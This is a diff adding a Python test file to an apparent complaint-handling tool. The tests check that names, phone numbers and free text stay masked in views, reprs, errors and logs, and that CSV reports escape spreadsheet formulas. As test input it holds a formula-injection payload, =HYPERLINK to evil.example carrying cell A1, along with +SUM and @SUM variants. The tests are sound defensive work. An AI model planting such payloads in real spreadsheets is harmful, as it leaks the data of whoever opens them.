@@ -1,0 +1,319 @@
+"""Personal data stays masked (issue 13, defect 6; PRV-1).
+
+0.1.0 left evidence names and event references unmasked in masked views,
+printed free text and bodies in the reprs of intakes, complaints and
+notifications, echoed cells (a name shifted into another column) in rejection
+lines and access errors, and wrote report cells such as ``=HYPERLINK(…)`` as
+spreadsheet formulas.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import datetime, timedelta
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from complaintcore import (
+    AccessDeniedError,
+    AddMeasure,
+    AttachEvidence,
+    CompleteMeasure,
+    MeasureAdded,
+    Notification,
+    RecordCause,
+    Reply,
+)
+from complaintcore.cli import main
+from complaintcore.testing import RecordingNotifier, make_desk
+from tests.helpers import SH
+from tests.helpers import intake as _intake
+
+NOW = datetime(2025, 11, 14, 9, 30, tzinfo=SH)
+NAME, PHONE, ROOM = "王小明", "13812345678", "3-2-1201"
+RECORDING = "录音-13912345678.mp3"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+
+
+def invoke(*args: str) -> Result:
+    return CliRunner().invoke(
+        main, ["--lang", "en", *args], env={"COMPLAINTCORE_NOW": "2025-11-14T17:30"}
+    )
+
+
+@pytest.fixture
+def desk_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.chdir(tmp_path)
+    assert invoke("init", ".").exit_code == 0
+    return tmp_path
+
+
+# --------------------------------------------------------------------------- masked views
+
+
+@pytest.mark.procedure("PRV-1")
+def test_evidence_names_and_event_references_are_masked_where_the_view_masks() -> None:
+    desk = make_desk()
+    c = desk.receive(_intake(receiver="SR-103", evidence=(RECORDING, f"{NAME}的照片.jpg")), now=NOW)
+    desk.act(
+        c.id,
+        AttachEvidence(actor="SR-201", reference=f"通话录音 {PHONE}.amr", note=f"{NAME}提供"),
+        now=NOW,
+    )
+    for viewer in ("SR-202", "SR-402"):  # an engineer, a cleaner: masked views
+        view = json.dumps(desk.view(c.id, viewer, now=NOW), ensure_ascii=False)
+        for secret in ("13912345678", PHONE, NAME):
+            assert secret not in view, (viewer, secret)
+    full = json.dumps(desk.view(c.id, "SR-102", now=NOW), ensure_ascii=False)  # customer service
+    assert RECORDING in full
+    assert PHONE in full
+
+
+@pytest.mark.procedure("PRV-1")
+def test_show_without_as_masks_evidence_and_references(desk_dir: Path) -> None:
+    (desk_dir / "in.jsonl").write_text(
+        json.dumps(
+            {
+                "name": NAME,
+                "phone": PHONE,
+                "room": ROOM,
+                "site": "sunrise",
+                "summary": "楼上漏水",
+                "receiver": "SR-103",
+            },
+            ensure_ascii=False,
+        )
+        + "\n",
+        encoding="utf-8",
+    )
+    doc = json.loads(invoke("receive", "--file", "in.jsonl", "--json").stdout)
+    cid = doc["ids"][0]
+    done = invoke("act", cid, "evidence", "--actor", "SR-201", "--reference", RECORDING)
+    assert done.exit_code == 0, done.output
+    for args in (["show", cid], ["show", cid, "--json"], ["show", cid, "--as", "SR-202"]):
+        result = invoke(*args)
+        assert result.exit_code == 0, result.output
+        assert "13912345678" not in result.stdout
+        assert PHONE not in result.stdout
+
+
+# --------------------------------------------------------------------------- reprs
+
+
+@pytest.mark.procedure("PRV-1")
+def test_reprs_show_no_personal_data_or_free_text() -> None:
+    desk = make_desk()
+    words = "厨房漏水严重，请尽快维修"
+    c = desk.receive(
+        _intake(
+            receiver="SR-103",
+            summary=words,
+            description=f"联系{NAME} {PHONE}",
+            location="3号楼地下室",
+            evidence=(RECORDING,),
+        ),
+        now=NOW,
+    )
+    c = desk.act(c.id, Reply(actor="SR-201", message=f"已联系{NAME}，明早维修"), now=NOW)
+    note = Notification(
+        key="k",
+        complaint_id=c.id,
+        topic="assigned",
+        recipient="SR-201",
+        subject=f"投诉 {NAME}",
+        body=f"业主{NAME}（{PHONE}）反映：{words}",
+        created_at=NOW,
+        data=(("complainant", NAME),),
+    )
+    for shown in (repr(c.intake), repr(c), repr(c.events[-1]), repr(note), str(c.intake)):
+        for secret in (NAME, PHONE, ROOM, words, "3号楼", "13912345678", "明早维修"):
+            assert secret not in shown, (secret, shown[:80])
+    assert c.id in repr(c)
+    assert "SR-201" in repr(note)
+
+
+# --------------------------------------------------------------------------- errors
+
+
+@pytest.mark.procedure("PRV-1")
+def test_a_shifted_row_is_rejected_without_echoing_its_cells(desk_dir: Path) -> None:
+    # the receiver and channel columns got the complainant's name and phone
+    (desk_dir / "in.csv").write_text(
+        "name,phone,room,site,summary,receiver,channel\n"
+        f"{NAME},{PHONE},{ROOM},sunrise,楼上漏水,{NAME},{PHONE}\n"
+        f"李四,13900001111,1-1-101,sunrise,噪音,SR-103,{NAME}\n"
+        f"赵五,13900002222,1-1-102,sunrise,噪音,张伟,phone\n",
+        encoding="utf-8",
+    )
+    result = invoke("receive", "--file", "in.csv")
+    assert result.exit_code == 1
+    for secret in (NAME, PHONE, "张伟"):
+        assert secret not in result.stdout + result.stderr
+    assert result.stdout.count("rejected:") == 3
+
+
+@pytest.mark.procedure("PRV-1")
+def test_access_errors_do_not_echo_a_name_given_as_an_actor() -> None:
+    desk = make_desk()
+    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
+    with pytest.raises(AccessDeniedError) as err:
+        desk.act(c.id, Reply(actor=NAME, message="x"), now=NOW)
+    assert NAME not in str(err.value)
+    with pytest.raises(AccessDeniedError) as err:
+        desk.view(c.id, NAME)
+    assert NAME not in str(err.value)
+
+
+# --------------------------------------------------------------------------- spreadsheets
+
+
+def test_the_csv_report_writes_no_formula(desk_dir: Path) -> None:
+    (desk_dir / "in.jsonl").write_text(
+        json.dumps(
+            {
+                "name": NAME,
+                "phone": PHONE,
+                "room": ROOM,
+                "building": FORMULA,  # no site: the building alone names the group
+                "summary": "楼上漏水",
+                "receiver": "SR-103",
+            },
+            ensure_ascii=False,
+        )
+        + "\n",
+        encoding="utf-8",
+    )
+    received = invoke("receive", "--file", "in.jsonl", "--json")
+    assert received.exit_code == 0, received.output
+    cid = json.loads(received.stdout)["ids"][0]
+    handler = json.loads(invoke("show", cid, "--json").stdout)["events"][-1]["handler"]
+    assert invoke("act", cid, "assess", "--actor", handler, "--validity", "valid").exit_code == 0
+    result = invoke("report", "--month", "2025-11", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)  # the building is reported ...
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]
+
+
+def test_the_indicator_csv_writes_no_formula(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Labels of a pack's indicators come from a pack file: text like any other."""
+    import complaintcore.core.indicators as module
+
+    monkeypatch.chdir(tmp_path)
+    assert invoke("init", ".", "--pack", "uk-housing-ombudsman-2024").exit_code == 0
+    real = module.indicator_rows
+
+    def with_a_formula(report: object) -> list[dict[str, object]]:
+        rows = real(report)  # type: ignore[arg-type]
+        return [{**row, "label": FORMULA, "label_en": "@SUM(A1)"} for row in rows]
+
+    monkeypatch.setattr(module, "indicator_rows", with_a_formula)
+    result = invoke("report", "--period", "2025", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows
+    assert {(r["label"], r["label_en"]) for r in rows} == {("'" + FORMULA, "'@SUM(A1)")}
+
+
+def test_the_staff_table_csv_writes_no_formula(
+    desk_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Staff ids come from a staff file: text like any other (PEN-1's per-staff rows)."""
+    import complaintcore.cli.report as module
+
+    real = module.staff_rows
+
+    def with_a_formula(staff: object) -> list[dict[str, object]]:
+        rows = real(staff)  # type: ignore[arg-type]
+        row = {"period": "2025-11", "section": "staff", "metric": "points", "value": 3}
+        return [*rows, {**row, "key": FORMULA, "label": "+SUM(A1)", "detail": "-x"}]
+
+    monkeypatch.setattr(module, "staff_rows", with_a_formula)
+    result = invoke("report", "--month", "2025-11", "--staff", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    staff = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["section"] == "staff"]
+    assert [(r["key"], r["label"], r["detail"], r["value"]) for r in staff] == [
+        ("'" + FORMULA, "'+SUM(A1)", "'-x", "3")
+    ]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_the_spreadsheet_rule_itself() -> None:
+    from complaintcore import spreadsheet_safe
+
+    assert spreadsheet_safe(FORMULA) == "'" + FORMULA
+    for risky in ("+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"):
+        assert spreadsheet_safe(risky) == "'" + risky
+    for plain in ("楼上漏水", "-5", "+3.5", "C-20251114-0001", "", "a=b"):
+        assert spreadsheet_safe(plain) == plain
+    assert spreadsheet_safe(-5) == -5
+    assert spreadsheet_safe(None) is None
+
+
+def test_log_of_a_notifier_shows_no_body(caplog: pytest.LogCaptureFixture) -> None:
+    notes = RecordingNotifier()
+    desk = make_desk(notifiers=[notes])
+    caplog.set_level("DEBUG")
+    c = desk.receive(_intake(receiver="SR-103", summary=f"请{NAME}回电 {PHONE}"), now=NOW)
+    desk.deliver(NOW)
+    assert notes.sent
+    assert PHONE not in caplog.text
+    assert NAME not in caplog.text
+    assert c.id
+
+
+@pytest.mark.procedure("PRV-1")
+@pytest.mark.procedure("IMP-1")
+def test_causes_and_measures_are_redacted_where_the_view_masks() -> None:
+    """What a handler writes about the cause and the measures is free text like a reply."""
+    desk = make_desk()
+    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
+    handler = "SR-201"
+    desk.act(
+        c.id,
+        RecordCause(
+            actor=handler,
+            cause=f"{NAME}家立管老化",
+            corrective=f"回电 {PHONE}",
+            preventive=f"{ROOM} 年检",
+        ),
+        now=NOW,
+    )
+    due = NOW + timedelta(days=10)
+    desk.act(
+        c.id,
+        AddMeasure(
+            actor=handler, kind="corrective", action=f"联系{NAME}更换", owner="sr-201 ", due=due
+        ),
+        now=NOW,
+    )
+    done = desk.act(
+        c.id, CompleteMeasure(actor=handler, measure="M1", result=f"已告知 {PHONE}"), now=NOW
+    )
+    added = [e for e in done.events if isinstance(e, MeasureAdded)]
+    assert [m.owner for m in added] == ["SR-201"]  # the owner's id resolved as a handler's is
+    for viewer in ("SR-202", "SR-402"):  # an engineer, a cleaner: masked views
+        view = desk.view(c.id, viewer, now=NOW)
+        shown = json.dumps(view, ensure_ascii=False)
+        for secret in (NAME, PHONE, ROOM):
+            assert secret not in shown, (viewer, secret)
+        kinds = [e["type"] for e in view["events"]]
+        assert {"cause_analysed", "measure_added", "measure_done"} <= set(kinds)
+        measure = next(e for e in view["events"] if e["type"] == "measure_added")
+        assert (measure["measure"], measure["owner"]) == ("M1", "SR-201")  # ids stay readable
+    full = json.dumps(desk.view(c.id, "SR-102", now=NOW), ensure_ascii=False)  # customer service
+    assert f"{NAME}家立管老化" in full
